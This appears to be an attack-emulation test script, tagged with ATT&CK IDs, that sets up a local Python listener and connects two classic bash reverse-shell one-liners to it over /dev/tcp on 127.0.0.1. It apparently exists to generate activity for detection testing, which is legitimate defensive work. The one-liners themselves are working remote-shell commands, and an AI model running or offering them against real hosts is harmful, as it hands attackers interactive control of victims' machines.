# techniques: T1059.004 T1095
# Classic bash reverse shell: `bash -i >& /dev/tcp/HOST/PORT 0>&1`. The "attacker" is a Python
# listener on 127.0.0.1:4444 that sends a few commands and then `exit`. HOME points at the temp
# working directory so the interactive shell's history file stays there.
unset LD_LIBRARY_PATH
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH
HOME=$PWD/home; export HOME; mkdir -p "$HOME"

listen() { # PORT COMMANDS [CONNECTIONS]: accept, send the commands, drain until EOF
  rm -f "ready.$1"
  /usr/bin/python3 -I -S -c '
import socket, sys
p, cmd, n = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("127.0.0.1", p)); l.listen(1); l.settimeout(8)
open("ready.%d" % p, "w").close()
for _ in range(n):
    c, _ = l.accept(); c.settimeout(4)
    c.sendall(cmd.encode() + b"\n")
    try:
        while c.recv(65536): pass
    except OSError: pass
    c.close()
' "$1" "$2" "${3:-1}" &
  lpid=$!
  i=0; while [ ! -e "ready.$1" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
}

listen 4444 'id; uname -a; pwd; exit'
bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' 2>/dev/null
# the same with a numbered descriptor, as in many cheat sheets
listen 4444 'id; exit'
bash -c '0<&196; exec 196<>/dev/tcp/127.0.0.1/4444; sh <&196 >&196 2>&196' 2>/dev/null
wait
rm -rf "$HOME" ready.*
exit 0
